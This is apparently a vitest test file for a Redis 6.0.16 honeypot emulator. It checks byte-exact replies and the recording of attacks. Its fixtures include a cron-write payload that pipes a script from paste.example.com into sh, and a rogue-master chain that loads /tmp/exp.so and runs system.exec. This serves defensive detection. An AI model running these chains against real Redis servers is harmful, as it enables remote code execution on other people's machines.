// The Redis 6.0.16 session: cron-write and rogue-master chains run to the end, replies match
// Redis byte for byte, and hostile lengths close the connection with Redis' own error.

import { describe, expect, it } from 'vitest';

import { corpusBytes } from '../test-corpus.js';
import { sendLines, startSession } from '../test-session.js';
import { redis } from './index.js';
import { MAX_QUERY_BUFFER_BYTES } from './session.js';

function start() {
  return startSession(redis, { dstPort: 6379 });
}

describe('redis session', () => {
  it('runs the RESP cron-write chain to SAVE and keeps the evidence', () => {
    const { ctx, session } = start();
    session.data(corpusBytes('seed-6379-redis-cron-write-resp'));
    expect(ctx.text()).toBe('+OK\r\n+OK\r\n+OK\r\n+OK\r\n');
    expect(ctx.commands).toEqual([
      'set backuprd "\\n*/1 * * * * root (curl -fsSL https://paste.example.com/raw/5bjpjvLP||' +
        'wget -q -O- https://paste.example.com/raw/5bjpjvLP)|sh\\n"',
      'config set dir /etc/cron.d', 'config set dbfilename root', 'save',
    ]);
    expect(ctx.fields).toMatchObject({
      config_set: { dir: '/etc/cron.d', dbfilename: 'root' }, commands_total: 4,
      keys_set: [{ key: 'backuprd', value: expect.stringContaining('paste.example.com') }],
    });
    expect(ctx.ended).toBe(false);
  });

  it('runs the inline chain the same way and marks it inline', () => {
    const { ctx, session } = start();
    session.data(corpusBytes('seed-6379-redis-cron-write-inline'));
    expect(ctx.text()).toBe('+OK\r\n+OK\r\n+OK\r\n+OK\r\n');
    expect(ctx.fields).toMatchObject({ inline: true, config_set: { dir: '/etc/cron.d' } });
  });

  it('follows the rogue master through MODULE LOAD to the module command', () => {
    const { ctx, session } = start();
    session.data(corpusBytes('redis-rogue-master-module-load'));
    expect(ctx.text()).toBe('+OK\r\n+OK\r\n$48\r\nuid=113(redis) gid=119(redis) groups=119(redis)' +
      '\n\r\n');
    expect(ctx.fields).toMatchObject({ replicaof: '198.51.100.211:21000',
      modules: ['/tmp/exp.so'] });
    expect(ctx.commands).toEqual(['SLAVEOF 198.51.100.211 21000', 'MODULE LOAD /tmp/exp.so',
      'system.exec id']);
  });

  it('answers module commands as unknown before any module is loaded', () => {
    const { ctx, session } = start();
    sendLines(session, 'system.exec "id"');
    expect(ctx.text()).toBe('-ERR unknown command `system.exec`, with args beginning with: ' +
      '`id`, \r\n');
  });

  it('answers AUTH like a server without a password and records the attempt', () => {
    const { ctx, session } = start();
    sendLines(session, 'AUTH hunter2', 'AUTH admin s3cret');
    expect(ctx.text()).toBe('-ERR AUTH <password> called without any password configured for ' +
      'the default user. Are you sure your configuration is correct?\r\n' +
      '-WRONGPASS invalid username-password pair\r\n');
    expect(ctx.credentials).toEqual([{ username: 'default', password: 'hunter2' },
      { username: 'admin', password: 's3cret' }]);
  });

  it('remembers CONFIG SET values for CONFIG GET within the session', () => {
    const { ctx, session } = start();
    sendLines(session, 'config get dir', 'config set dir /var/spool/cron', 'CONFIG GET di*');
    expect(ctx.text()).toBe('*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n+OK\r\n' +
      '*2\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n');
  });

  it('stores, lists, reads and deletes keys, and FLUSHALL empties them', () => {
    const { ctx, session } = start();
    sendLines(session, 'set a 1', 'get a', 'keys *', 'del a b', 'get a', 'set b 2', 'flushall',
      'dbsize');
    expect(ctx.text()).toBe('+OK\r\n$1\r\n1\r\n*1\r\n$1\r\na\r\n:1\r\n$-1\r\n+OK\r\n+OK\r\n' +
      ':0\r\n');
  });

  it('answers PING, BGSAVE, SLAVEOF NO ONE, EVAL and QUIT as Redis does', () => {
    const { ctx, session } = start();
    sendLines(session, 'PING', 'BGSAVE', 'SLAVEOF no one', 'EVAL "return 1" 0', 'QUIT', 'PING');
    expect(ctx.text()).toBe('+PONG\r\n+Background saving started\r\n+OK\r\n$-1\r\n+OK\r\n');
    expect(ctx.ended).toBe(true);
  });

  it('formats unknown commands and wrong arities like Redis 6.0', () => {
    const { ctx, session } = start();
    sendLines(session, 'FOO bar baz', 'GET', 'constructor', 'CONFIG FROB');
    expect(ctx.text()).toBe(
      '-ERR unknown command `FOO`, with args beginning with: `bar`, `baz`, \r\n' +
      "-ERR wrong number of arguments for 'get' command\r\n" +
      '-ERR unknown command `constructor`, with args beginning with: \r\n' +
      "-ERR Unknown subcommand or wrong number of arguments for 'FROB'. Try CONFIG HELP.\r\n");
  });

  it('reports the role and replication state in INFO', () => {
    const { ctx, session } = start();
    sendLines(session, 'INFO');
    const info = ctx.text();
    expect(info).toMatch(/^\$\d+\r\n# Server\r\nredis_version:6\.0\.16\r\n/);
    expect(info).toContain('role:master\r\n');
    expect(info).toContain('tcp_port:6379\r\n');
    expect(Number(/^\$(\d+)/.exec(info)?.[1])).toBe(Buffer.byteLength(info) -
      info.indexOf('\r\n') - 4);
    ctx.clear();
    sendLines(session, 'SLAVEOF 198.51.100.7 8886', 'info replication');
    expect(ctx.text()).toContain('role:slave\r\nmaster_host:198.51.100.7\r\nmaster_port:8886\r\n');
  });

  it('lists its commands for COMMAND and COMMAND COUNT', () => {
    const { ctx, session } = start();
    sendLines(session, 'COMMAND COUNT');
    const count = Number(/^:(\d+)/.exec(ctx.text())?.[1]);
    ctx.clear();
    sendLines(session, 'COMMAND');
    expect(ctx.text()).toMatch(new RegExp(`^\\*${count}\\r\\n\\*7\\r\\n`));
  });

  it('closes on a huge bulk length with the declared length recorded as a number', () => {
    const { ctx, session } = start();
    session.data(corpusBytes('adv-redis-huge-bulk-length'));
    expect(ctx.text()).toBe('-ERR Protocol error: invalid bulk length\r\n');
    expect(ctx.fields['declared_length']).toBe(2147483647);
    expect(ctx.reasons).toEqual(['invalid_bulk_length']);
    expect(ctx.ended).toBe(true);
  });

  it('closes a client whose unfinished request passes the query buffer cap, silently', () => {
    const { ctx, session } = start();
    session.data(Buffer.from('*5\r\n$3\r\nset\r\n'));
    const bulk = Buffer.concat([Buffer.from('$1048576\r\n'), Buffer.alloc(1048576, 0x61),
      Buffer.from('\r\n')]);
    for (let i = 0; i < 4 && !ctx.ended; i++) session.data(bulk);
    expect(ctx.reasons).toEqual(['query_buffer_limit']);
    expect(ctx.text()).toBe('');
    expect(ctx.ended).toBe(true);
    expect(MAX_QUERY_BUFFER_BYTES).toBeLessThan(4 * bulk.length);
  });
});
